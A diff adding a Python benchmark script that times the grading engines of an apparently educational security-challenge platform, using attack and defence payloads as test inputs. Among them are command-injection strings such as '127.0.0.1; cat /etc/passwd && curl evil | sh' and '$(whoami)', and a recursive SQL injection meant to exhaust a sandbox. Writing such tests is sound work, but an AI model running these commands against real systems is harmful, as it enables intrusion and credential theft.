@@ -0,0 +1,283 @@
+#!/usr/bin/env python3
+"""
+Benchmark suite for the challenge evaluators.
+
+Measures p50/p99 latency and throughput of ChallengeEngine (every type,
+role and difficulty), ChallengeSimulator (every type and difficulty) and
+BotAI (every type, role and difficulty). Evaluator payloads come in three
+sets: the attack_tests corpus, the same payloads padded to a large size,
+and adversarial payloads aimed at the matchers and the SQL sandbox.
+Memoized results are dropped before every call, so each sample is a full
+grading.
+
+Run from the project root:
+    PYTHONPATH=. python tools/bench_evaluators.py run [--output FILE] [--repeat N] [--only PREFIX]
+    PYTHONPATH=. python tools/bench_evaluators.py compare [--baseline FILE] [--threshold 0.25] [--p99-threshold 1.0]
+
+``run`` writes the results to a JSON baseline (default
+tools/bench_baseline.json). ``compare`` runs the same benchmarks and exits
+with status 1 if any p50 is more than ``--threshold`` (a fraction) or any
+p99 more than ``--p99-threshold`` slower than the baseline. Baselines are only comparable on the machine
+that recorded them.
+"""
+import argparse
+import gc
+import json
+import math
+import os
+import platform
+import random
+import sys
+import time
+from datetime import datetime
+
+from app.bot_ai import BotAI
+from app.challenge_engine import challenge_engine
+from app.challenge_simulator import challenge_simulator
+from app.evaluation import evaluation_core
+from app.password_strength import strength_estimator
+from app.rule_packs import rule_packs
+from app.sandbox import MAX_PAYLOAD_LENGTH
+from attack_tests import TEST_PAYLOADS
+
+DEFAULT_BASELINE = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'bench_baseline.json')
+
+DIFFICULTIES = ('easy', 'medium', 'hard')
+ROLES = ('attacker', 'defender')
+
+# Large payloads stay just under the sandbox cap so SQL payloads still run
+LARGE_PAYLOAD_LENGTH = MAX_PAYLOAD_LENGTH - 100
+
+DEFENDER_PAYLOADS = {
+    'sql_injection': ["Use parameterized queries with bind variables and input validation"],
+    'xss': ["htmlspecialchars on output and a strict Content-Security-Policy"],
+    'dos': ["rate limit per IP, firewall block lists, cloudflare CDN and monitoring"],
+    'password_strength': ["Tr0ub4dor&3-horse-battery"],
+    'server_config': ["close port 23, enable 2fa, patch to latest version, force https"],
+}
+
+SIMULATOR_PAYLOADS = {
+    'sql_injection': TEST_PAYLOADS['sql_injection'],
+    'sql_injection_defense': ["prepare the statement and bind_param every value, validate input, use the ORM"],
+    'xss': TEST_PAYLOADS['xss'],
+    'xss_defense': ["escape output with htmlspecialchars, Content-Security-Policy with a nonce, sanitize"],
+    'dos': TEST_PAYLOADS['dos'] + ["http flood: request request request request request request"],
+    'dos_defense': ["rate limit requests, waf and iptables, load balancing, cloudflare cdn, monitor"],
+    'password_check': TEST_PAYLOADS['password_strength'] + ["Tr0ub4dor&3-horse-battery"],
+    # Cracking runs a real, budgeted attack; brute force would spend the whole budget every call
+    'password_cracking': ["dictionary attack with a wordlist and best64 rules in hashcat, then rainbow tables"],
+    'csrf': ["csrf: a hidden form that will submit automatically using the victim's session cookie"],
+    'csrf_defense': ["per-form csrf token, SameSite=strict cookies and Origin/Referer checks"],
+    'command_injection': ["127.0.0.1; cat /etc/passwd && curl evil | sh", "`ls -la`", "$(whoami)"],
+    'command_injection_defense': ["validate against an allowlist, escapeshellarg, subprocess with exec array"],
+}
+
+# Inputs meant to find slow paths: regex backtracking, keyword near-misses,
+# quote storms, case-mapping surprises and a sandbox query that hits its budget
+ADVERSARIAL_PAYLOADS = [
+    "or " + " " * LARGE_PAYLOAD_LENGTH + "x",
+    "OR '" + "1" * LARGE_PAYLOAD_LENGTH,
+    "unio selec scrip onloa flo amplificatio " * (LARGE_PAYLOAD_LENGTH // 40),
+    "'" * LARGE_PAYLOAD_LENGTH,
+    "<" * (LARGE_PAYLOAD_LENGTH // 2) + "script" * 10,
+    "İſK\u0000‮" * (LARGE_PAYLOAD_LENGTH // 5),
+    "' UNION SELECT x, x, x, x, x FROM (WITH RECURSIVE c(x) AS "
+    "(SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c)--",
+]
+
+
+def _pad(payload, length=LARGE_PAYLOAD_LENGTH):
+    """Embed ``payload`` in benign filler text of about ``length`` characters"""
+    filler = "lorem ipsum dolor sit amet "
+    half = max(0, (length - len(payload)) // 2)
+    return (filler * (half // len(filler) + 1))[:half] + payload + (filler * (half // len(filler) + 1))[:half]
+
+
+def drop_memos():
+    evaluation_core.memo.invalidate()
+    strength_estimator.cache.clear()
+
+
+def payload_sets(corpus):
+    return {
+        'corpus': list(corpus),
+        'large': [_pad(p) for p in corpus],
+        'adversarial': ADVERSARIAL_PAYLOADS,
+    }
+
+
+def benchmarks():
+    """Yield ``(name, setup, call, inputs)`` for every benchmark"""
+    for challenge_type in TEST_PAYLOADS:
+        for role in ROLES:
+            corpus = TEST_PAYLOADS[challenge_type] if role == 'attacker' else DEFENDER_PAYLOADS[challenge_type]
+            for set_name, payloads in payload_sets(corpus).items():
+                for difficulty in DIFFICULTIES:
+                    yield (
+                        f'engine/{challenge_type}/{role}/{difficulty}/{set_name}',
+                        drop_memos,
+                        lambda p, t=challenge_type, d=difficulty, r=role:
+                            challenge_engine.evaluate_challenge(t, p, d, r),
+                        payloads
+                    )
+
+    for challenge_type, corpus in SIMULATOR_PAYLOADS.items():
+        for set_name, payloads in payload_sets(corpus).items():
+            for difficulty in DIFFICULTIES:
+                yield (
+                    f'simulator/{challenge_type}/{difficulty}/{set_name}',
+                    drop_memos,
+                    lambda p, t=challenge_type, d=difficulty:
+                        challenge_simulator.evaluate_challenge(t, p, d),
+                    payloads
+                )
+
+    for challenge_type in TEST_PAYLOADS:
+        for role in ROLES:
+            for difficulty in DIFFICULTIES:
+                bot = BotAI(difficulty=difficulty, role=role)
+                yield (
+                    f'bot/{challenge_type}/{role}/{difficulty}/actions',
+                    bot.action_history.clear,
+                    lambda step, t=challenge_type, b=bot: b.get_next_action(t, {'bot_step': step}),
+                    list(range(5))
+                )
+
+
+def percentile(samples, q):
+    """Nearest-rank percentile of sorted ``samples``"""
+    return samples[max(0, math.ceil(q * len(samples)) - 1)]
+
+
+def measure(setup, call, inputs, repeat):
+    # One untimed pass so imports, regex caches and the sandbox pool are warm
+    for value in inputs:
+        setup()
+        call(value)
+    samples = []
+    # Like timeit, keep the cyclic garbage collector out of the timings
+    gc_was_enabled = gc.isenabled()
+    gc.disable()
+    try:
+        for _ in range(repeat):
+            for value in inputs:
+                setup()
+                start = time.perf_counter()
+                call(value)
+                samples.append(time.perf_counter() - start)
+    finally:
+        if gc_was_enabled:
+            gc.enable()
+    samples.sort()
+    total = sum(samples)
+    return {
+        'calls': len(samples),
+        'p50_us': round(percentile(samples, 0.50) * 1e6, 2),
+        'p99_us': round(percentile(samples, 0.99) * 1e6, 2),
+        'throughput_per_s': round(len(samples) / total, 1) if total else None
+    }
+
+
+def run_suite(repeat, only=None, names=None):
+    random.seed(0)
+    results = {}
+    for name, setup, call, inputs in benchmarks():
+        if only and not name.startswith(only):
+            continue
+        if names is not None and name not in names:
+            continue
+        results[name] = measure(setup, call, inputs, repeat)
+        stats = results[name]
+        print(f"{name:<58} p50 {stats['p50_us']:9.2f} µs  p99 {stats['p99_us']:9.2f} µs  "
+              f"{stats['throughput_per_s']:10.1f}/s")
+    return {
+        'recorded_at': datetime.utcnow().isoformat(),
+        'python': platform.python_version(),
+        'platform': platform.platform(),
+        'rule_pack_version': rule_packs.version,
+        'repeat': repeat,
+        'benchmarks': results
+    }
+
+
+def compare(baseline, current, thresholds, only=None, quiet=False):
+    """Print the comparison; return the names of regressed benchmarks"""
+    regressions = []
+    for name, stats in current['benchmarks'].items():
+        before = baseline['benchmarks'].get(name)
+        if before is None:
+            if not quiet:
+                print(f"{name:<58} new benchmark, no baseline")
+            continue
+        worse = []
+        for metric, threshold in thresholds.items():
+            if before[metric] and stats[metric] > before[metric] * (1 + threshold):
+                worse.append(f"{metric} {before[metric]:.2f} -> {stats[metric]:.2f}")
+        if worse:
+            regressions.append(name)
+            if not quiet:
+                print(f"✗ {name:<56} {', '.join(worse)}")
+    if quiet:
+        return regressions
+    missing = {name for name in baseline['benchmarks'] if not only or name.startswith(only)}
+    missing -= set(current['benchmarks'])
+    for name in sorted(missing):
+        print(f"{name:<58} missing from this run")
+    return regressions
+
+
+def main():
+    parser = argparse.ArgumentParser(description='Benchmark the challenge evaluators')
+    parser.add_argument('mode', choices=('run', 'compare'))
+    parser.add_argument('--output', default=DEFAULT_BASELINE, help='where run writes the baseline')
+    parser.add_argument('--baseline', default=DEFAULT_BASELINE, help='baseline compare reads')
+    parser.add_argument('--threshold', type=float, default=0.25,
+                        help='allowed p50 slowdown as a fraction (0.25 = 25%%)')
+    parser.add_argument('--p99-threshold', type=float, default=1.0,
+                        help='allowed p99 slowdown; tail latency is noisier than the median')
+    parser.add_argument('--repeat', type=int, default=None, help='passes over each payload set')
+    parser.add_argument('--only', help='only run benchmarks whose name starts with this prefix')
+    parser.add_argument('--retries', type=int, default=2,
+                        help='times to re-measure a regressed benchmark before failing it')
+    args = parser.parse_args()
+
+    if args.mode == 'run':
+        report = run_suite(args.repeat or 50, args.only)
+        with open(args.output, 'w') as f:
+            json.dump(report, f, indent=2, sort_keys=True)
+        print(f"✓ Wrote {len(report['benchmarks'])} benchmarks to {args.output}")
+        return 0
+
+    with open(args.baseline) as f:
+        baseline = json.load(f)
+    if baseline.get('rule_pack_version') != rule_packs.version:
+        print(f"⚠ Rule packs changed since the baseline "
+              f"({baseline.get('rule_pack_version')} -> {rule_packs.version})")
+    repeat = args.repeat or baseline.get('repeat', 50)
+    current = run_suite(repeat, args.only)
+    thresholds = {'p50_us': args.threshold, 'p99_us': args.p99_threshold}
+
+    # Re-measure suspects and keep their best run, so one noisy pass
+    # (another process, a frequency change) does not fail the gate
+    suspects = compare(baseline, current, thresholds, args.only, quiet=True)
+    for attempt in range(args.retries):
+        if not suspects:
+            break
+        print(f"Re-measuring {len(suspects)} suspected regression(s) (retry {attempt + 1})")
+        rerun = run_suite(repeat, names=set(suspects))['benchmarks']
+        for name, stats in rerun.items():
+            if stats['p50_us'] < current['benchmarks'][name]['p50_us']:
+                current['benchmarks'][name] = stats
+        suspects = compare(baseline, current, thresholds, args.only, quiet=True)
+
+    print("\nComparison with", args.baseline)
+    regressions = compare(baseline, current, thresholds, args.only)
+    if regressions:
+        print(f"✗ {len(regressions)} benchmark(s) regressed beyond the threshold")
+        return 1
+    print("✓ No benchmark regressed beyond the threshold")
+    return 0
+
+
+if __name__ == '__main__':
+    sys.exit(main())